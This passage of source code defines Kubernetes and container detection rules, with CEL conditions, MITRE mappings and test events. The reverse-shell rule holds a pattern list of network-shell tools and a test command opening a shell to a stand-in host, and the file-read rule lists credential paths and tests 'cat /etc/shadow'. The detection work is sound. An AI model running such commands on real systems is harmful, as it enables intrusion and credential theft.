    title: 'Anonymous request allowed',
    severity: 'high',
    mitre: ['T1078.001', 'T1190'],
    match: { actorKinds: ['anonymous'] },
    condition: `${OK} && actor.kind == 'anonymous' && !(action.requestURI in ['/healthz', '/livez', '/readyz', '/version']) && !(target.resource in ['', 'componentstatuses']) && !actor.userAgent.startsWith('GoogleHC') && !actor.userAgent.startsWith('kube-probe')`,
    message: 'anonymous request {{action.verb}} {{target.resource}} from {{actor.sourceIPs}} allowed',
    tests: [
      {
        name: 'anonymous pods list',
        expect: true,
        event: audit('list', 'pods', {
          user: 'system:anonymous',
          groups: ['system:unauthenticated'],
          ns: 'default',
        }),
      },
      {
        name: 'refused',
        expect: false,
        event: audit('list', 'pods', {
          user: 'system:anonymous',
          groups: ['system:unauthenticated'],
          code: 403,
        }),
      },
    ],
  },
  {
    id: 'unauthenticated-burst',
    title: 'Burst of failed authentications from one address',
    severity: 'medium',
    mitre: ['T1110'],
    match: { codes: [401] },
    condition: 'action.code == 401',
    message: 'many 401 answers to {{actor.sourceIPs}}',
    threshold: { count: 10, windowSeconds: 60, by: ['actor.sourceIPs'] },
  },
  {
    id: 'forbidden-burst',
    title: 'Burst of refused requests by one subject',
    severity: 'medium',
    mitre: ['T1613'],
    match: { codes: [403] },
    condition: "action.code == 403 && actor.kind != 'anonymous'",
    message: '{{actor.user}} was refused many requests',
    threshold: { count: 10, windowSeconds: 60, by: ['actor.user'] },
  },
  {
    id: 'forbidden-from-public-ip',
    title: 'Refused requests from a public address',
    severity: 'low',
    mitre: ['T1613'],
    match: { codes: [403] },
    condition: 'action.code == 403 && actor.publicSource',
    message: '{{actor.user}} from {{actor.sourceIPs}} was refused {{action.verb}} {{target.resource}}',
    tests: [
      { name: 'public 403', expect: true, event: audit('get', 'pods', { ip: '8.8.8.8', code: 403 }) },
      { name: 'private 403', expect: false, event: audit('get', 'pods', { ip: '10.1.2.3', code: 403 }) },
    ],
  },
  {
    id: 'system-principal-from-public-ip',
    title: 'System identity used from a public address',
    severity: 'high',
    mitre: ['T1528', 'T1078'],
    match: { actorKinds: ['serviceaccount', 'system'] },
    condition: `${OK} && actor.kind in ['serviceaccount', 'system'] && actor.publicSource && !actor.sourceIPs.exists(a, !isIP(a) || !ip(a).isGlobalUnicast() || ip(a).family() == 4 && (cidr('10.0.0.0/8').containsIP(a) || cidr('172.16.0.0/12').containsIP(a) || cidr('192.168.0.0/16').containsIP(a) || cidr('100.64.0.0/10').containsIP(a))) && !actor.sourceIPs.exists(a, settings.trustedNetworks.exists(n, cidr(n).containsIP(a)))`,
    message: '{{actor.user}} acted from public address {{actor.sourceIPs}}',
    tests: [
      {
        name: 'coredns SA from 1.2.3.4',
        expect: true,
        event: audit('get', 'endpointslices', {
          user: 'system:serviceaccount:kube-system:coredns',
          ip: '1.2.3.4',
        }),
      },
      {
        name: 'from 10.0.0.1',
        expect: false,
        event: audit('get', 'endpointslices', {
          user: 'system:serviceaccount:kube-system:coredns',
          ip: '10.0.0.1',
        }),
      },
    ],
  },
  {
    id: 'csr-approved',
    title: 'Certificate signing request approved',
    severity: 'medium',
    mitre: ['T1649'],
    match: { verbs: ['update', 'patch'], resources: ['certificatesigningrequests/approval'] },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} approved certificate signing request {{target.name}}',
    tests: [
      {
        name: 'approved',
        expect: true,
        event: audit('update', 'certificatesigningrequests', { sub: 'approval', name: 'csr-1' }),
      },
      {
        name: 'controller',
        expect: false,
        event: audit('update', 'certificatesigningrequests', {
          sub: 'approval',
          name: 'csr-1',
          user: 'system:kube-controller-manager',
        }),
      },
    ],
  },
  {
    id: 'client-certificate-requested',
    title: 'Client certificate for the API server requested',
    severity: 'medium',
    mitre: ['T1649'],
    match: { verbs: ['create'], resources: ['certificatesigningrequests'] },
    condition: `${OK} && object.?spec.?signerName.orValue('') == 'kubernetes.io/kube-apiserver-client' && ${NOT_SYSTEM}`,
    message: '{{actor.user}} requested an API client certificate ({{target.name}})',
    tests: [
      {
        name: 'client cert',
        expect: true,
        event: audit('create', 'certificatesigningrequests', {
          name: 'eve',
          body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
        }),
      },
      {
        name: 'kubelet serving',
        expect: false,
        event: audit('create', 'certificatesigningrequests', {
          name: 'n',
          body: { spec: { signerName: 'kubernetes.io/kubelet-serving' } },
        }),
      },
    ],
  },
  {
    id: 'node-proxy-access',
    title: 'Kubelet API reached through the node proxy',
    severity: 'high',
    mitre: ['T1611'],
    match: { resources: ['nodes/proxy'] },
    condition: `${OK} && !(actor.kind in ['system', 'node'])`,
    message: '{{actor.user}} used the node proxy of {{target.name}}',
    tests: [
      { name: 'proxy', expect: true, event: audit('get', 'nodes', { sub: 'proxy', name: 'n1' }) },
      {
        name: 'forbidden',
        expect: false,
        event: audit('get', 'nodes', { sub: 'proxy', name: 'n1', code: 403 }),
      },
    ],
  },
  {
    id: 'impersonation',
    title: 'Request made by impersonation',
    severity: 'medium',
    mitre: ['T1078'],
    match: { sources: ['audit'] },
    condition: `${OK} && actor.impersonator != '' && !(actor.impersonator in settings.trustedSubjects)`,
    message: '{{actor.impersonator}} acted as {{actor.user}}: {{action.verb}} {{target.resource}}',
    tests: [
      { name: 'as admin', expect: true, event: audit('get', 'secrets', { ns: 'x', impersonated: 'admin' }) },
      { name: 'no impersonation', expect: false, event: audit('get', 'secrets', { ns: 'x' }) },
    ],
  },
  {
    id: 'crd-created',
    title: 'CustomResourceDefinition created or changed',
    severity: 'low',
    mitre: ['T1543'],
    match: { verbs: ['create', 'update', 'patch', 'delete'], resources: ['customresourcedefinitions'] },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} {{action.verb}} CRD {{target.name}}',
    tests: [
      {
        name: 'created',
        expect: true,
        event: audit('create', 'customresourcedefinitions', { name: 'x.example.com' }),
      },
      { name: 'listed', expect: false, event: audit('list', 'customresourcedefinitions') },
    ],
  },
  {
    id: 'daemonset-created',
    title: 'DaemonSet created by a person',
    severity: 'low',
    mitre: ['T1610'],
    match: { verbs: ['create'], resources: ['daemonsets'] },
    condition: `${OK} && actor.kind == 'human' && !(actor.user in settings.trustedSubjects)`,
    message: '{{actor.user}} created DaemonSet {{target.namespace}}/{{target.name}} (runs on every node)',
    tests: [
      { name: 'by a person', expect: true, event: audit('create', 'daemonsets', { ns: 'x', name: 'miner' }) },
      {
        name: 'by a controller',
        expect: false,
        event: audit('create', 'daemonsets', {
          ns: 'x',
          name: 'd',
          user: 'system:serviceaccount:argocd:app',
        }),
      },
    ],
  },
  {
    id: 'cronjob-created-or-modified',
    title: 'CronJob created or changed',
    severity: 'low',
    mitre: ['T1053.007'],
    match: { verbs: WRITE, resources: ['cronjobs'] },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} {{action.verb}} CronJob {{target.namespace}}/{{target.name}}',
    tests: [
      { name: 'created', expect: true, event: audit('create', 'cronjobs', { ns: 'x', name: 'c' }) },
      {
        name: 'controller',
        expect: false,
        event: audit('update', 'cronjobs', { ns: 'x', name: 'c', user: 'system:kube-controller-manager' }),
      },
    ],
  },
  {
    id: 'nodeport-service',
    title: 'NodePort service exposes a workload on every node',
    severity: 'low',
    mitre: ['T1133'],
    match: { verbs: WRITE, resources: ['services'] },
    condition: `${OK} && object.?spec.?type.orValue('') == 'NodePort'`,
    message: '{{actor.user}} exposed {{target.namespace}}/{{target.name}} as a NodePort service',
    tests: [
      {
        name: 'NodePort',
        expect: true,
        event: audit('create', 'services', { ns: 'x', name: 's', body: { spec: { type: 'NodePort' } } }),
      },
      {
        name: 'ClusterIP',
        expect: false,
        event: audit('create', 'services', { ns: 'x', name: 's', body: { spec: { type: 'ClusterIP' } } }),
      },
    ],
  },
  {
    id: 'ingress-without-tls',
    title: 'Ingress without TLS',
    severity: 'low',
    mitre: ['T1040'],
    match: { verbs: ['create'], resources: ['ingresses'] },
    condition: `${OK} && !(target.namespace in ${SYSTEM_NAMESPACES}) && has(object.spec) && object.?spec.?tls.orValue([]).size() == 0`,
    message: '{{actor.user}} {{action.verb}} ingress {{target.namespace}}/{{target.name}} without TLS',
    tests: [
      {
        name: 'no tls',
        expect: true,
        event: audit('create', 'ingresses', { ns: 'x', name: 'i', body: { spec: { rules: [] } } }),
      },
      {
        name: 'tls',
        expect: false,
        event: audit('create', 'ingresses', {
          ns: 'x',
          name: 'i',
          body: { spec: { tls: [{ hosts: ['a'] }] } },
        }),
      },
    ],
  },
  {
    id: 'unapproved-registry',
    title: 'Workload image from an unapproved registry',
    severity: 'medium',
    mitre: ['T1610', 'T1204.003'],
    match: { verbs: ['create', 'update', 'patch'], resources: WORKLOADS },
    condition: `${OK} && settings.approvedRegistries.size() > 0 && containers.exists(c, !settings.approvedRegistries.exists(r, string(c.?image.orValue('')).startsWith(r + '/')))`,
    message:
      '{{actor.user}} ran an image from an unapproved registry in {{target.resource}} {{target.namespace}}/{{target.name}}',
  },
  {
    id: 'intel-source-ip',
    title: 'API request from a threat-feed address',
    severity: 'high',
    mitre: ['T1078'],
    match: { intel: true },
    condition: "intel.exists(i, i.field == 'actor.sourceIPs' || i.field == 'actor.userAgent')",
    message:
      '{{actor.user}} {{action.verb}} {{target.resource}} from {{actor.sourceIPs}} listed in a threat feed',
    tests: [
      {
        name: 'feed hit',
        expect: true,
        event: audit('list', 'pods', { ip: '198.51.100.7' }),
        intel: [{ type: 'ip', value: '198.51.100.7' }],
      },
      {
        name: 'no hit',
        expect: false,
        event: audit('list', 'pods', { ip: '198.51.100.8' }),
        intel: [{ type: 'ip', value: '198.51.100.7' }],
      },
    ],
  },
  {
    id: 'intel-network-destination',
    title: 'Connection to a threat-feed address or domain',
    severity: 'high',
    mitre: ['T1071'],
    match: { sources: ['flow', 'runtime'], intel: true },
    condition: "intel.exists(i, i.field in ['network.dstIP', 'network.domain', 'network.srcIP'])",
    message:
      '{{network.srcWorkload}} connected to {{network.dstIP}} {{network.domain}} listed in a threat feed',
    tests: [
      {
        name: 'flow to a feed IP',
        expect: true,
        event: flow('203.0.113.50', 443),
        intel: [{ type: 'cidr', value: '203.0.113.0/24' }],
      },
      {
        name: 'flow elsewhere',
        expect: false,
        event: flow('192.0.2.10', 443),
        intel: [{ type: 'cidr', value: '203.0.113.0/24' }],
      },
    ],
  },
  {
    id: 'crypto-miner-pool',
    title: 'Connection to a crypto-mining pool',
    severity: 'critical',
    mitre: ['T1496'],
    match: { sources: ['flow', 'runtime'] },
    condition:
      "network.dstPort in [3333, 4444, 5555, 7777, 8333, 9999, 14433, 14444, 45560, 45700] && network.dstIP != '' || network.domain.matches('(^|\\\\.)(pool|xmr|monero|nanopool|minexmr|supportxmr|2miners|f2pool|nicehash)[.-]') || process.binary.endsWith('xmrig')",
    message:
      '{{network.srcWorkload}}{{process.pod}} connected to a mining pool {{network.domain}} {{network.dstIP}}:{{network.dstPort}}',
    tests: [
      { name: 'stratum port', expect: true, event: flow('203.0.113.5', 3333) },
      { name: 'https', expect: false, event: flow('203.0.113.5', 443) },
    ],
  },
  {
    id: 'shell-in-container',
    title: 'Shell started in a container',
    severity: 'medium',
    mitre: ['T1059.004'],
    match: { sources: ['runtime'], verbs: ['exec'] },
    condition: `${binaryName} in ${SHELLS} && process.parentBinary != ''`,
    message:
      'shell {{process.binary}} started in {{process.namespace}}/{{process.pod}} ({{process.container}}) by {{process.parentBinary}}',
    tests: [
      {
        name: 'falco shell',
        expect: true,
        event: falco('Terminal shell in container', {
          'proc.exepath': '/bin/bash',
          'proc.cmdline': 'bash',
          'proc.pname': 'runc',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'container.name': 'app',
          'evt.type': 'execve',
        }),
      },
      {
        name: 'python',
        expect: false,
        event: falco('Process started', {
          'proc.exepath': '/usr/bin/python3',
          'proc.cmdline': 'python3 app.py',
          'proc.pname': 'runc',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'evt.type': 'execve',
        }),
      },
    ],
  },
  {
    id: 'reverse-shell',
    title: 'Reverse shell pattern in a container',
    severity: 'critical',
    mitre: ['T1059.004', 'T1071'],
    match: { sources: ['runtime', 'audit'], process: true },
    condition:
      "['/dev/tcp/', '/dev/udp/', 'nc -e', 'ncat -e', 'nc.traditional -e', 'bash -i', 'sh -i', 'socat exec:', 'socat tcp', 'mkfifo /tmp/', 'pty.spawn'].exists(p, process.args.lowerAscii().contains(p))",
    message: 'reverse shell pattern "{{process.args}}" in {{process.namespace}}/{{process.pod}}',
    tests: [
      {
        name: 'bash /dev/tcp',
        expect: true,
        event: falco('Process started', {
          'proc.exepath': '/bin/bash',
          'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
          'proc.pname': 'sh',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'evt.type': 'execve',
        }),
      },
      {
        name: 'plain bash',
        expect: false,
        event: falco('Process started', {
          'proc.exepath': '/bin/bash',
          'proc.cmdline': 'bash /entrypoint.sh',
          'proc.pname': 'runc',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'evt.type': 'execve',
        }),
      },
    ],
  },
  {
    id: 'sensitive-file-read-in-container',
    title: 'Sensitive file opened in a container',
    severity: 'high',
    mitre: ['T1552.001'],
    match: { sources: ['runtime'], verbs: ['open'] },
    condition:
      "['/etc/shadow', '/etc/sudoers', '/root/.ssh/', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/.aws/credentials', '/.kube/config'].exists(p, process.file.contains(p))",
    message: '{{process.binary}} opened {{process.file}} in {{process.namespace}}/{{process.pod}}',
    tests: [
      {
        name: 'shadow',
        expect: true,
        event: falco('Read sensitive file untrusted', {
          'proc.exepath': '/bin/cat',
          'proc.cmdline': 'cat /etc/shadow',
          'fd.name': '/etc/shadow',
          'evt.type': 'openat',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
        }),
      },
      {
        name: 'hosts',
        expect: false,
        event: falco('Read file', {
          'proc.exepath': '/bin/cat',
          'proc.cmdline': 'cat /etc/hosts',
          'fd.name': '/etc/hosts',
          'evt.type': 'openat',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
        }),
      },
    ],
  },
  {
    id: 'package-manager-in-container',
    title: 'Package manager run in a running container',
    severity: 'low',
    mitre: ['T1059'],
    match: { sources: ['runtime'], verbs: ['exec'] },
    condition: `${binaryName} in ['apt', 'apt-get', 'dpkg', 'apk', 'yum', 'dnf', 'rpm', 'pip', 'pip3', 'npm']`,
    message: '{{process.binary}} ran in {{process.namespace}}/{{process.pod}}: "{{process.args}}"',
    tests: [
      {
        name: 'apt-get',
        expect: true,
        event: falco('Process started', {
          'proc.exepath': '/usr/bin/apt-get',
          'proc.cmdline': 'apt-get install nmap',
          'proc.pname': 'bash',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'evt.type': 'execve',
        }),
      },
      {
        name: 'node',
        expect: false,
        event: falco('Process started', {
          'proc.exepath': '/usr/bin/node',
          'proc.cmdline': 'node app.js',
          'proc.pname': 'runc',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web',
          'evt.type': 'execve',
        }),
      },
    ],
  },
  {
    id: 'denied-flow-attempted',
    title: 'Connection attempted and dropped by policy',
    severity: 'low',
    mitre: ['T1046'],
    match: { sources: ['flow'] },
    condition: "network.verdict in ['denied', 'dropped']",
    message:
      '{{network.srcWorkload}} ({{network.srcIP}}) tried {{network.dstWorkload}}{{network.dstIP}}:{{network.dstPort}} and was dropped',
    tests: [
      { name: 'dropped', expect: true, event: flow('10.0.0.20', 5432, { verdict: 'DROPPED' }) },
      { name: 'forwarded', expect: false, event: flow('10.0.0.20', 5432) },
    ],
  },
];
